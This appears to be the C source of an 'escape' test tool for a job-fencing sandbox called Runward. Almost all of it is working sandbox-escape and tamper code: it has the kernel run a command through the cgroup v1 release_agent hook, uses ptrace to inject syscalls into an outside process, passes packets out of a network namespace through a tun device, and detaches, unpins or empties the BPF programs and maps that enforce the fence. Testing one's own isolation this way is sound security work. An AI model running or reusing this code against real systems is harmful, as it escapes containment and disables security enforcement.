/* The escaping actor: ways to have something done by a process that is not the job's, and to take the fence down.
 *
 *   escape release-agent FOLDER COMMAND…   the kernel itself starts COMMAND, when a control group becomes empty
 *   escape ptrace PID ADDRESS PORT         a process outside of the job is made to send a datagram
 *   escape uplink ADDRESS PORT             a network namespace whose packets another process of the job passes on
 *   escape detach PID                      detaches every link of the fence that process PID has pinned
 *   escape unpin PID                       removes its pins
 *   escape unfence PID                     empties the map that says which jobs are fenced
 *
 * PID is Runward's own; no other fence of the machine is touched.
 */
#include "common.h"
#include "target.h"

#include <dirent.h>
#include <linux/bpf.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <net/route.h>
#include <poll.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

enum { BYTES = 40, MOST_MAPS = 64, MOST_KEYS = 256 };

static void write_file(const char *folder, const char *name, const char *text) {
    char *path;
    if (asprintf(&path, "%s/%s", folder, name) < 0)
        fail("asprintf");
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        fail(name);
    close(fd);
    free(path);
}

/* FOLDER is an empty folder that the first mount namespace sees too: the kernel starts the command there. */
static void act_release_agent(int argc, char **argv) {
    char *script, *groups, *group, line[4096] = "#!/bin/sh\nexec";
    if (asprintf(&script, "%s/agent", argv[0]) < 0 || asprintf(&groups, "%s/groups", argv[0]) < 0 ||
        asprintf(&group, "%s/group", groups) < 0)
        fail("asprintf");
    for (int i = 1; i < argc && strlen(line) + strlen(argv[i]) + 4 < sizeof line; i++) {
        strcat(line, " ");
        strcat(line, argv[i]);
    }
    strcat(line, "\n");
    int fd = open(script, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (fd < 0)
        fail("open");
    write_all(fd, line, strlen(line), "write");
    close(fd);
    if (unshare(CLONE_NEWNS) < 0 || mount("", "/", "none", MS_REC | MS_PRIVATE, NULL) < 0)
        fail("unshare");
    if (mkdir(groups, 0700) < 0)
        fail("mkdir");
    char name[64];
    snprintf(name, sizeof name, "none,name=runward-lab-%d", (int)getpid());
    if (mount("none", groups, "cgroup", 0, name) < 0) {
        if (errno == ENODEV || errno == EINVAL)
            lacking("control groups of version 1");
        fail("mount cgroup");
    }
    if (mkdir(group, 0700) < 0)
        fail("mkdir");
    write_file(groups, "release_agent", script);
    write_file(group, "notify_on_release", "1");
    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child == 0) {
        write_file(group, "cgroup.procs", "0");
        _exit(0);
    }
    wait_for(child);
    sleep_ms(1500);
    rmdir(group);
    umount2(groups, MNT_DETACH);
    report("\"ok\":true");
    exit(EXIT_DONE);
}

#ifdef __x86_64__
/* Runs one system call in a process that is stopped inside of another one. */
static long call_in(pid_t pid, const struct user_regs_struct *stopped, long number, const long *arguments) {
    struct user_regs_struct now = *stopped;
    now.rip -= 2; /* the system call's own instruction */
    now.rax = (unsigned long)number;
    now.orig_rax = ~0UL;
    now.rdi = (unsigned long)arguments[0];
    now.rsi = (unsigned long)arguments[1];
    now.rdx = (unsigned long)arguments[2];
    now.r10 = (unsigned long)arguments[3];
    now.r8 = (unsigned long)arguments[4];
    now.r9 = (unsigned long)arguments[5];
    int status;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &now) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0 ||
        waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, NULL, &now) < 0)
        fail("ptrace step");
    return (long)now.rax;
}

static void act_ptrace(int argc UNUSED, char **argv) {
    pid_t pid = (pid_t)number(argv[0], 2, 1 << 30);
    struct target to = parse_target(argv[1], argv[2]);
    struct user_regs_struct stopped;
    int status;
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
        fail("PTRACE_ATTACH");
    if (waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, NULL, &stopped) < 0)
        fail("PTRACE_GETREGS");
    /* Below the stack pointer and what the compiler may keep there. */
    unsigned long memory = (stopped.rsp - 4096) & ~15UL;
    struct iovec from[2] = {{&to.at, sizeof to.at}, {pattern(BYTES), BYTES}};
    struct iovec into = {(void *)memory, sizeof to.at + BYTES};
    if (process_vm_writev(pid, from, 2, &into, 1, 0) < 0)
        fail("process_vm_writev");
    long fd = call_in(pid, &stopped, SYS_socket, (long[]){to.at.ss_family, SOCK_DGRAM, 0, 0, 0, 0});
    long sent = call_in(pid, &stopped, SYS_sendto,
                        (long[]){fd, (long)(memory + sizeof to.at), BYTES, 0, (long)memory, (long)to.size});
    ptrace(PTRACE_SETREGS, pid, NULL, &stopped);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    report("\"ok\":%s,\"fd\":%ld,\"sent\":%ld", sent == BYTES ? "true" : "false", fd, sent);
    exit(sent == BYTES ? EXIT_DONE : EXIT_FAILED);
}
#else
static void act_ptrace(int argc UNUSED, char **argv UNUSED) {
    errno = ENOSYS;
    lacking("registers of this processor");
}
#endif

/* In a namespace of its own: a device whose packets the other process gets, and a datagram through it. */
static _Noreturn void send_inside(int channel, const struct target *to) {
    struct ifreq request;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0)
        fail("unshare");
    int tun = open("/dev/net/tun", O_RDWR | O_CLOEXEC), fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (tun < 0)
        lacking("/dev/net/tun");
    memset(&request, 0, sizeof request);
    request.ifr_flags = IFF_TUN | IFF_NO_PI;
    if (ioctl(tun, TUNSETIFF, &request) < 0)
        fail_or_lacking("TUNSETIFF");
    struct sockaddr_in own = {.sin_family = AF_INET};
    inet_pton(AF_INET, "10.7.8.1", &own.sin_addr);
    memcpy(&request.ifr_addr, &own, sizeof own);
    if (ioctl(fd, SIOCSIFADDR, &request) < 0)
        fail("SIOCSIFADDR");
    request.ifr_flags = IFF_UP;
    if (ioctl(fd, SIOCSIFFLAGS, &request) < 0)
        fail("SIOCSIFFLAGS");
    struct rtentry route = {.rt_flags = RTF_UP, .rt_dev = request.ifr_name};
    route.rt_dst.sa_family = AF_INET;
    route.rt_genmask.sa_family = AF_INET;
    if (ioctl(fd, SIOCADDRT, &route) < 0)
        fail("SIOCADDRT");
    send_fd(channel, tun);
    if (sendto(fd, pattern(BYTES), BYTES, 0, address_of(to), to->size) != BYTES)
        fail("sendto inside");
    sleep_ms(500);
    _exit(EXIT_DONE);
}

static void act_uplink(int argc UNUSED, char **argv) {
    struct target to = parse_target(argv[0], argv[1]);
    int ends[2];
    if (to.at.ss_family != AF_INET) {
        fprintf(stderr, "%s: needs an IPv4 address\n", act_name);
        exit(EXIT_USAGE);
    }
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) < 0)
        fail("socketpair");
    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child == 0)
        send_inside(ends[1], &to);
    close(ends[1]);
    int tun = receive_fd(ends[0]), fd = open_socket(&to, SOCK_DGRAM);
    for (;;) {
        unsigned char packet[2048];
        struct pollfd wait = {tun, POLLIN, 0};
        if (poll(&wait, 1, 2000) != 1)
            fail_with("wait for a packet", ETIMEDOUT);
        ssize_t got = read(tun, packet, sizeof packet);
        size_t header = (size_t)(packet[0] & 15) * 4 + 8;
        if (got < (ssize_t)header || packet[0] >> 4 != 4 || packet[9] != IPPROTO_UDP)
            continue;
        if (sendto(fd, packet + header, (size_t)got - header, 0, address_of(&to), to.size) < 0)
            fail("sendto outside");
        done(fd, &to, (size_t)got - header, 0);
    }
}

static long bpf(int command, union bpf_attr *attributes) {
    return syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

/* Calls `each` with the path of every pin of a Runward. */
static int for_each_pin(const char *pid, bool (*each)(const char *path)) {
    static const char all[] = "/sys/fs/bpf/runward";
    DIR *folders = opendir(all);
    if (!folders)
        fail("open the pins");
    int done_to = 0;
    size_t length = strlen(pid);
    for (struct dirent *entry; (entry = readdir(folders));) {
        if (strncmp(entry->d_name, pid, length) != 0 || entry->d_name[length] != '-')
            continue;
        char folder[512], path[1024];
        snprintf(folder, sizeof folder, "%s/%s", all, entry->d_name);
        DIR *pins = opendir(folder);
        if (!pins)
            fail("open the pins");
        for (struct dirent *pin; (pin = readdir(pins));) {
            snprintf(path, sizeof path, "%s/%s", folder, pin->d_name);
            if (pin->d_name[0] != '.' && each(path))
                done_to++;
        }
        closedir(pins);
        rmdir(folder);
    }
    closedir(folders);
    return done_to;
}

static int open_pin(const char *path) {
    union bpf_attr attributes;
    memset(&attributes, 0, sizeof attributes);
    attributes.pathname = (uintptr_t)path;
    return (int)bpf(BPF_OBJ_GET, &attributes);
}

static bool detach(const char *path) {
    union bpf_attr attributes;
    int fd = open_pin(path);
    if (fd < 0)
        return false;
    memset(&attributes, 0, sizeof attributes);
    attributes.link_detach.link_fd = (uint32_t)fd;
    bool detached = bpf(BPF_LINK_DETACH, &attributes) == 0;
    close(fd);
    return detached;
}

static bool unpin(const char *path) { return unlink(path) == 0; }

static bool describe(int fd, void *info, uint32_t size) {
    union bpf_attr attributes;
    memset(&attributes, 0, sizeof attributes);
    attributes.info.bpf_fd = (uint32_t)fd;
    attributes.info.info_len = size;
    attributes.info.info = (uintptr_t)info;
    return bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes) == 0;
}

static int open_by_id(int command, uint32_t id) {
    union bpf_attr attributes;
    memset(&attributes, 0, sizeof attributes);
    attributes.prog_id = id; /* the same place for programs and maps */
    return (int)bpf(command, &attributes);
}

static bool empty_if_fences(uint32_t id) {
    struct bpf_map_info map;
    int fd = open_by_id(BPF_MAP_GET_FD_BY_ID, id);
    memset(&map, 0, sizeof map);
    if (fd < 0 || !describe(fd, &map, sizeof map) || strcmp(map.name, "fences") != 0)
        return false;
    bool emptied = false;
    for (int i = 0; i < MOST_KEYS; i++) {
        uint64_t key;
        union bpf_attr attributes;
        memset(&attributes, 0, sizeof attributes);
        attributes.map_fd = (uint32_t)fd;
        attributes.next_key = (uintptr_t)&key;
        if (bpf(BPF_MAP_GET_NEXT_KEY, &attributes) < 0)
            break;
        memset(&attributes, 0, sizeof attributes);
        attributes.map_fd = (uint32_t)fd;
        attributes.key = (uintptr_t)&key;
        emptied |= bpf(BPF_MAP_DELETE_ELEM, &attributes) == 0;
    }
    close(fd);
    return emptied;
}

/* From a link to its program, and from that to its maps. */
static bool unfence(const char *path) {
    struct bpf_link_info link;
    struct bpf_prog_info program;
    uint32_t maps[MOST_MAPS];
    bool emptied = false;
    int fd = open_pin(path);
    memset(&link, 0, sizeof link);
    if (fd < 0 || !describe(fd, &link, sizeof link))
        return false;
    close(fd);
    fd = open_by_id(BPF_PROG_GET_FD_BY_ID, link.prog_id);
    memset(&program, 0, sizeof program);
    program.nr_map_ids = MOST_MAPS;
    program.map_ids = (uintptr_t)maps;
    if (fd < 0 || !describe(fd, &program, sizeof program))
        return false;
    close(fd);
    for (uint32_t i = 0; i < program.nr_map_ids && i < MOST_MAPS; i++)
        emptied |= empty_if_fences(maps[i]);
    return emptied;
}

static void tamper(const char *pid, bool (*each)(const char *path)) {
    int count = for_each_pin(pid, each);
    report("\"ok\":%s,\"count\":%d", count ? "true" : "false", count);
    exit(count ? EXIT_DONE : EXIT_FAILED);
}

static void act_detach(int argc UNUSED, char **argv) { tamper(argv[0], detach); }
static void act_unpin(int argc UNUSED, char **argv) { tamper(argv[0], unpin); }
static void act_unfence(int argc UNUSED, char **argv) { tamper(argv[0], unfence); }

static const struct act acts[] = {
    {"release-agent", 2, act_release_agent, "FOLDER COMMAND…"},
    {"ptrace", 3, act_ptrace, "PID ADDRESS PORT"},
    {"uplink", 2, act_uplink, "IPV4 PORT"},
    {"detach", 1, act_detach, "PID"},
    {"unpin", 1, act_unpin, "PID"},
    {"unfence", 1, act_unfence, "PID"},
};

int main(int argc, char **argv) { return run_act("escape", acts, sizeof acts / sizeof *acts, argc, argv); }
